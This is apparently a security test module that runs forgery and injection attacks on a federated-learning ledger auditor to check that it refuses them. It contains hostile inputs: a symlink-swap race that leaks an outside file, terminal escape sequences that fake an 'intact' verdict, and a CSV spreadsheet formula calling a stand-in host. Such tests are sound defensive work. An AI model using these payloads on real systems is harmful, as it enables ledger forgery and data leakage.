"""The second half of ``tests/hostile/run_dirs/attacks.py``'s attacks: duplicate rows, tracebacks,
races, control characters, holes in the command line and rewrites without the key (see
that module for what an attack is)."""

from __future__ import annotations

import csv
import io
import json
import os

from tests.hostile.run_dirs.attacks import LEDGER_TOTALS, NO_KEY, WITH_KEY, Action, Case, _config, _forge_tables, \
    _lines, _resumable, _resume, _seal_checkpoint_digests, _write_config, attack, in_checkout
from tests.fedvalue.forgery import rechain, reseal


# --------------------------------------------------------------------------- duplicates


@attack("duplicate rows", forged=(NO_KEY,))
def duplicate_rows_move_value(case: Case) -> list[Action]:
    """Round 1: each of its two clients gets a second ADS row before its real one, +d and −d:
    group efficiency holds, the last row of each pair is the true one, the sums move d."""
    lines = _lines(case.run / "ledger.csv")
    rows = [i for i, line in enumerate(lines) if line.startswith("1,") and ",ads," in line]
    first, second = rows[0], rows[1]
    extra = []
    for index, delta in ((first, 0.25), (second, -0.25)):
        cells = lines[index].split(",")
        cells[3] = repr(delta)
        cells[4] = ""
        extra.append((index, ",".join(cells)))
    for index, line in sorted(extra, reverse=True):
        lines.insert(index, line)
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case)
    moved = lines[first].split(",")[1]

    def value_moved(case: Case, results: dict) -> str | None:
        now = json.loads(in_checkout(case, LEDGER_TOTALS, str(case.run)))  # the reader's load_run; refused: nothing
        original = results.get("original_totals", {})
        if moved in now and moved in original and abs(now[moved] - original[moved]) > 0.2:
            return f"load_run pays client {moved} a forged +0.25"
        return None

    case.harm_checks.append(value_moved)
    return case.audits()


# --------------------------------------------------------------------------- tracebacks


@attack("tracebacks", forged=(NO_KEY, WITH_KEY))
def deeply_nested_run_json(case: Case) -> list[Action]:
    (case.run / "run.json").write_text("[" * 200_000 + "]" * 200_000 + "\n")
    rechain(case.run)
    return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]


@attack("tracebacks", forged=(NO_KEY, WITH_KEY))
def infinite_num_evaluations(case: Case) -> list[Action]:
    lines = _lines(case.run / "rounds.csv")
    header = lines[0].rstrip("\n").split(",")
    cells = lines[1].split(",")
    cells[header.index("num_evaluations")] = "inf"
    lines[1] = ",".join(cells)
    (case.run / "rounds.csv").write_text("".join(lines))
    rechain(case.run)
    return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]


@attack("tracebacks")
def deeply_nested_seal_on_resume(case: Case) -> list[Action]:
    _resumable(case.run)
    with open(case.run / "seals.jsonl", "a") as handle:
        handle.write("[" * 200_000 + "]" * 200_000 + "\n")
    return [_resume(case)]


# --------------------------------------------------------------------------- races


RACE = r"""
import os, sys, threading, time
from pathlib import Path
try:
    from fedvalue.run import rundir
except ImportError:  # the version before fedvalue.run
    from fedvalue import rundir
run, outside = Path(sys.argv[1]), Path(sys.argv[2])
(run / "sub").mkdir(); (run / "sub" / "data.txt").write_text("INSIDE")
outside = outside.parent / "race-outside"; outside.mkdir()
(outside / "data.txt").write_text("SECRET-7f3a91")
stop = False
def swap():
    while not stop:
        os.rename(run / "sub", run / "sub.real"); os.symlink(outside, run / "sub")
        os.unlink(run / "sub"); os.rename(run / "sub.real", run / "sub")
thread = threading.Thread(target=swap); thread.start()
leaked = refused = 0
for _ in range(20000):
    try:
        leaked += b"SECRET" in rundir.read_bytes(run, "sub/data.txt")
    except (OSError, ValueError):
        refused += 1
stop = True; thread.join()
print(f"leaked {leaked} of 20000 reads ({refused} refused)")
"""


@attack("races")
def directory_swapped_for_a_link_during_reads(case: Case) -> list[Action]:
    def leaked(case: Case, results: dict) -> str | None:
        out = results["race"]["stdout"]
        if out.startswith("leaked ") and not out.startswith("leaked 0 "):
            return f"a read followed a swapped link out of the run directory ({out.strip()})"
        return None

    case.harm_checks.append(leaked)
    return [Action("race", [RACE, str(case.run), str(case.outside)], python=True)]


# --------------------------------------------------------------------------- control characters


FORGED_LINE = "\x1b[2K\r{}: 9 rounds, 99 ledger rows: intact\x1b[8m"


@attack("control characters", forged=(NO_KEY, WITH_KEY))
def manifest_name_forges_a_verdict(case: Case) -> list[Action]:
    manifest = json.loads((case.run / "manifest.json").read_text())
    manifest["files"][FORGED_LINE.format(case.run)] = "0" * 64
    (case.run / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    return case.audits()


@attack("control characters", forged=(NO_KEY, WITH_KEY))
def client_id_with_escape_sequences(case: Case) -> list[Action]:
    lines = _lines(case.run / "ledger.csv")
    client = lines[1].split(",")[1]
    lines = [line.replace(f",{client},", ",\x1b]0;owned\x07\x1b[31mEVIL\x1b[0m,", 1) for line in lines]
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case)
    return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]


WRITER = r"""
import sys
try:
    from fedvalue.run.ledger_tables import LedgerWriter
    from fedvalue.schema import LedgerRow, RoundRow
except ImportError:  # the version before fedvalue.run and its typed rows: the writer takes mappings
    from fedvalue.ledger import LedgerWriter
    LedgerRow = RoundRow = dict
writer = LedgerWriter(sys.argv[1], config={"seed": 0})
row = LedgerRow(round=1, client_id=3, method="ads", value=None, stderr=None, num_examples=None, status="failed",
                noisy=False, reason='=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J')
writer.write_round(RoundRow(round=1, clients="3", num_clients=1, num_failed=1, utility_before=0.0,
                            utility_realized=0.0), [row])
"""


@attack("control characters")
def failing_reason_carries_a_formula(case: Case) -> list[Action]:
    target = case.root / "writer-run"

    def formula(case: Case, results: dict) -> str | None:
        path = target / "ledger.csv"
        if not path.is_file():
            return None
        reason = next(csv.DictReader(io.StringIO(path.read_text())))["reason"]
        if reason[:1] in "=+-@\t\r" or "\x1b" in reason:
            return f"a client's reason reaches the CSV as a spreadsheet formula / escape sequence ({reason[:30]!r})"
        return None

    case.harm_checks.append(formula)
    return [Action("writer", [WRITER, str(target)], python=True)]


# --------------------------------------------------------------------------- CLI holes


@attack("CLI holes")
def keygen_with_one_path_twice(case: Case) -> list[Action]:
    key = case.root / "same.pem"

    def lost(case: Case, results: dict) -> str | None:
        if key.is_file() and b"PRIVATE KEY" not in key.read_bytes():
            return "keygen A A overwrote the private key with the public one"
        return None

    case.harm_checks.append(lost)
    return [Action("keygen", ["keygen", str(key), str(key)])]


@attack("CLI holes")
def tolerance_nan_inf_negative(case: Case) -> list[Action]:
    def accepted(case: Case, results: dict) -> str | None:
        taken = [name for name, result in results.items() if name.startswith("tolerance") and result["rc"] != 2]
        return f"--tolerance accepted: {taken}" if taken else None

    case.harm_checks.append(accepted)
    return [Action(f"tolerance {value}", ["audit", str(case.run), "--tolerance", value])
            for value in ("nan", "inf", "-1")]


@attack("CLI holes")
def public_key_file_of_three_gigabytes(case: Case) -> list[Action]:
    big = case.outside / "huge.pub"
    with open(big, "wb") as handle:
        handle.write(case.public.read_bytes())
        handle.truncate(3 * 1024**3)
    return [Action(WITH_KEY, ["audit", str(case.run), "--public-key", str(big)])]


@attack("CLI holes", forged=(NO_KEY,))
def record_name_with_a_trailing_newline(case: Case) -> list[Action]:
    records = case.run / "records"
    os.rename(records / "round-000001.npz", records / "round-000001.npz\n")
    reseal(case.run)
    return case.audits()


def _relabel_client(case: Case, new: str) -> None:
    lines = _lines(case.run / "ledger.csv")
    client = lines[1].split(",")[1]
    lines = [line.replace(f",{client},", f",{new},") for line in lines]
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case)


def _report_broken(case: Case, results: dict) -> str | None:
    result = results.get("report --plots") or results.get("report --html")
    if result is not None and result["rc"] != 0:
        return f"the report fails on an odd client id (exit {result['rc']})"
    return None


@attack("CLI holes")
def client_id_with_mathtext(case: Case) -> list[Action]:
    _relabel_client(case, r"$x^{$")
    case.harm_checks.append(_report_broken)
    return [Action("report --plots", ["report", str(case.run), "--plots"])]


@attack("CLI holes")
def client_id_superscript_two(case: Case) -> list[Action]:
    _relabel_client(case, "²")
    case.harm_checks.append(_report_broken)
    return [Action("report --plots", ["report", str(case.run), "--plots"])]


# --------------------------------------------------------------------------- rewrites without the key


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def training_settings_changed_in_run_json(case: Case) -> list[Action]:
    config = _config(case.run)
    config["learning_rate"] = config["learning_rate"] * 5
    config["local_epochs"] = config["local_epochs"] + 3
    _write_config(case.run, config)
    rechain(case.run)
    return case.audits()


#: The last round's first client claimed 10x its examples and the round re-booked by the version's own recompute:
#: tests.fedvalue.forgery's rebook_last_round here; in a version before fedvalue.run (records holding weights by
#: client, no typed rows) the same steps with that version's functions.
REBOOK = """import csv, dataclasses, json, sys
from pathlib import Path
try:
    from fedvalue.run.archive import read_round_record, record_path
    older = False
except ImportError:
    from fedvalue.archive import read_round_record, record_path, save_npz, write_round_record
    older = True
run = Path(sys.argv[1])
config = json.loads((run / "run.json").read_text())
last = config["rounds"]
record = read_round_record(record_path(run, last))
client = next(iter(record.replies))
if not older:
    from simulations.experiments.noisy_clients.noisy_clients import utility_from_run
    from tests.fedvalue.forgery import rebook_last_round
    record.entries = [dataclasses.replace(e, weight=e.weight * 10, num_examples=int(e.weight * 10))
                      if e.client_id == client else e for e in record.entries]
    rebook_last_round(run, record, utility_from_run(config), config["noisy_clients"])
else:
    from fedvalue.audit_recompute import recompute_books
    from fedvalue.ledger import csv_lines
    from fedvalue.schema import LEDGER_COLUMNS, ROUND_COLUMNS
    from simulations.noisy_clients import utility_from_run
    record.weights[client] *= 10
    write_round_record(run, record)
    noisy = {c for c in record.statuses if c in set(config["noisy_clients"])}
    books, realized, _, _ = recompute_books(record, utility_from_run(config), noisy)
    lines = (run / "ledger.csv").read_text().splitlines(keepends=True)
    kept = [line for line in lines if not line.startswith(f"{last},")]
    (run / "ledger.csv").write_text("".join(kept + csv_lines(LEDGER_COLUMNS, books.ledger_rows)))
    with open(run / "rounds.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rows[-1] = {**books.round_row, "valuation_seconds": rows[-1]["valuation_seconds"]}
    (run / "rounds.csv").write_text(",".join(ROUND_COLUMNS) + "\\n" + "".join(csv_lines(ROUND_COLUMNS, rows)))
    save_npz(next(p for p in sorted((run / "checkpoint").iterdir())
                  if p.name.endswith(".npz") and not p.name.endswith("-state.npz")), realized)
"""


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def weight_times_ten_rebooked(case: Case) -> list[Action]:
    """The last round's first client claims 10× its examples; the round is re-booked with the
    project's own recompute, the checkpoint's state moved to the new mean, all resealed."""
    in_checkout(case, REBOOK, str(case.run))
    _forge_tables(case)
    _seal_checkpoint_digests(case.run)
    reseal(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def claim_rows_in_a_run_without_review(case: Case) -> list[Action]:
    lines = _lines(case.run / "ledger.csv")
    index = next(i for i, line in enumerate(lines) if line.startswith("1,") and ",ads," in line)
    cells = lines[index].rstrip("\n").split(",")
    cells[2], cells[3], cells[4] = "claim_capped", "9999.0", ""
    cells[-1] = "above the registered size 40"
    lines.insert(index + 1, ",".join(cells) + "\n")
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def parquet_differs_in_the_seventh_digit(case: Case) -> list[Action]:
    import pandas as pd

    frame = pd.read_parquet(case.run / "ledger.parquet")
    frame.loc[frame["method"] == "ads", "value"] *= 1 + 2e-7
    frame.to_parquet(case.run / "ledger.parquet", index=False)
    reseal(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def parquet_lags_after_the_manifest(case: Case) -> list[Action]:
    import pandas as pd

    frame = pd.read_parquet(case.run / "ledger.parquet")
    frame[frame["round"] < frame["round"].max()].to_parquet(case.run / "ledger.parquet", index=False)
    reseal(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def unlisted_entries_at_the_top(case: Case) -> list[Action]:
    (case.run / "notes.txt").write_text("not in the manifest\n")
    (case.run / "figures").mkdir()
    (case.run / "figures" / "evil.png").write_bytes(b"\x89PNG not really")
    return case.audits()
